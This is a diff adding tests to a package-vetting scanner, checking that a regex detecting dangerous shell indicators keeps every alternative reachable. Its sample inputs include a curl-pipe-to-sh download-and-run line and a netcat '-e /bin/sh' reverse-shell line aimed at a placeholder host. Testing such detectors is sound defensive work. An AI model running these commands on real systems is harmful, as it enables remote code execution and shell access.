@@ -726,3 +726,34 @@ def test_metadata_finding_path_is_the_archive_path() -> None:
     _healthy(result)
     own = [f for f in result.findings if f.rule_id == "PV803"]
     assert own and all(f.path == "fixture-meta-99.0.0/PKG-INFO" for f in own), _show(own)
+
+
+def _first_chars(seq: object) -> set[str]:
+    """Characters a parsed regex sequence can start with, after zero-width ``\\b``/``^``
+    (``re._parser`` trees; a construct other than literals and groups fails the test)."""
+    from re import _constants as sre
+
+    for op, av in seq:  # type: ignore[attr-defined]
+        if op is sre.AT:
+            continue
+        if op is sre.LITERAL:
+            return {chr(av).lower()}
+        if op is sre.BRANCH:
+            return set().union(*(_first_chars(b) for b in av[1]))
+        if op is sre.SUBPATTERN:
+            return _first_chars(av[-1])
+        raise AssertionError(f"cannot tell the first character of {op}")
+    raise AssertionError("an alternative that can match the empty string")
+
+
+def test_shell_lookahead_admits_every_alternative() -> None:
+    """SHELL_HIGH's lookahead on first characters (a speed-up) never hides a match."""
+    from re import _parser
+
+    from pkgvet.rules.indicators import _SHELL_ALTERNATIVES, _SHELL_FIRST, SHELL_HIGH
+
+    parsed = _parser.parse(_SHELL_ALTERNATIVES, SHELL_HIGH.pattern.flags)
+    assert _first_chars(parsed) <= set(_SHELL_FIRST)
+    assert SHELL_HIGH.pattern.pattern == f"(?=[{_SHELL_FIRST}])(?:{_SHELL_ALTERNATIVES})"
+    for text in ("curl -s http://example.invalid/x | sh", "NC -e /bin/sh example.invalid 1"):
+        assert SHELL_HIGH.search(text) is not None
